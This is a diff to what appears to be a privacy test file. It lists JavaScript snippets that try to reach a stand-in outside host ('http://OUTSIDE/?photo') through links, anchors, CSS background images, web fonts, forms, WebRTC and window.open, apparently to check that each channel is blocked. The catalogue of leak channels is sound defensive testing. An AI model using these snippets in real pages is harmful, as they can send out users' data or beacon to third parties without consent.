@@ -20,7 +20,7 @@ LINK = """((rel, more = {}) => { const link = Object.assign(document.createEleme
   ...more }); document.head.append(link); })"""
 ANCHOR = "((more) => Object.assign(document.createElement('a'), { href: 'http://OUTSIDE/?photo', ...more }).click())"
 STYLE = """((rule) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(rule);
-  document.adoptedStyleSheets = [sheet]; document.body.append("x"); })"""
+  document.adoptedStyleSheets.push(sheet); document.body.append("x"); })"""
 
 # Scripts by the name that docs/privacy.md gives to the way.
 WEBRTC = {
@@ -95,7 +95,7 @@ LOADS = {
       document.body.append(form); form.submit(); })()""",
     "stylesheet": f"{LINK}('stylesheet')",
     "picture of a style": "void (document.body.style.backgroundImage = \"url('http://OUTSIDE/?photo')\")",
-    "picture of a stylesheet": f"{STYLE}(\"body {{ background: url('http://OUTSIDE/?photo') }}\")",
+    "picture of a stylesheet": f"{STYLE}(\"html {{ background: url('http://OUTSIDE/?photo') }}\")",
     "font of a stylesheet": f"""{STYLE}("@font-face {{ font-family: x; "
       + "src: url('http://OUTSIDE/?photo') }} * {{ font-family: x }}")""",
     "font": "new FontFace('x', \"url('http://OUTSIDE/?photo')\").load()",
@@ -122,6 +122,9 @@ NAVIGATIONS = {
     "window.open": "window.open('http://OUTSIDE/?photo')",
 }
 CLOSED = {**WEBRTC, **CONNECTIONS, **LOADS, **NAVIGATIONS}
+# These leave the page, or spoil it for those after them; all others can be tried at once.
+ALONE = {*NAVIGATIONS, "form", "speculation rules", "WebRTC with changed tools", "WebRTC in a frame by editing"}
+TOGETHER = {way: script for way, script in CLOSED.items() if way not in ALONE}
 
 
 class Outside:
